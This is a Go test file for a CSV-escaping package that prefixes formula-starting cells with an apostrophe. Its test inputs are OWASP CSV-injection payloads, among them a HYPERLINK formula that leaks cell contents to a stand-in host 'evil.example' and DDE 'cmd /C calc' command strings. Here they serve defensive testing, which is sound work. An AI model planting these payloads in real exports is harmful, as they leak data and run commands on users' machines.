package csvsafe

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// The payloads of OWASP's CSV Injection page, and values that must stay as written.
var cases = []struct{ in, want string }{
	{"=1+1", "'=1+1"},
	{"+1", "'+1"},
	{"-1", "'-1"},
	{"@SUM(1)", "'@SUM(1)"},
	{"\t=1", "'\t=1"},
	{"\r=1", "'\r=1"},
	{`=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")`,
		`'=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")`},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
	{"＝1+1", "'＝1+1"},
	// OWASP prefixes a negative number too; the apostrophe is not shown in the cell.
	{"-5", "'-5"},
	{"", ""},
	{"15-к", "15-к"},
	{"Об организации стажировочной площадки", "Об организации стажировочной площадки"},
	{"24.08.2021", "24.08.2021"},
	{"42", "42"},
	{" =1+1", " =1+1"},
	{"a=1", "a=1"},
	{"'=1", "'=1"},
	{"МБОУ «СОШ №6»; корпус 2", "МБОУ «СОШ №6»; корпус 2"},
}

func TestCell(t *testing.T) {
	for _, c := range cases {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestWriter: every field of every record is made safe, with «;» as Russian Excel's
// delimiter, and reads back cell for cell.
func TestWriter(t *testing.T) {
	var in, want []string
	for _, c := range cases {
		in, want = append(in, c.in), append(want, c.want)
	}
	orig := slices.Clone(in)
	var b bytes.Buffer
	w := NewWriter(&b)
	w.Comma, w.UseCRLF = ';', true
	if err := w.Write(in); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAll([][]string{{"=2", "ok"}}); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(in, orig) {
		t.Errorf("Write changed its argument: %q", in)
	}
	r := csv.NewReader(&b)
	r.Comma, r.FieldsPerRecord = ';', -1
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || !slices.Equal(got[1], []string{"'=2", "ok"}) {
		t.Fatalf("records: %q", got)
	}
	for i := range want {
		// With UseCRLF, csv.Writer drops a lone "\r" inside a field; the apostrophe stays.
		if w := strings.ReplaceAll(want[i], "\r", ""); got[0][i] != w {
			t.Errorf("field %d = %q, want %q", i, got[0][i], w)
		}
	}
}
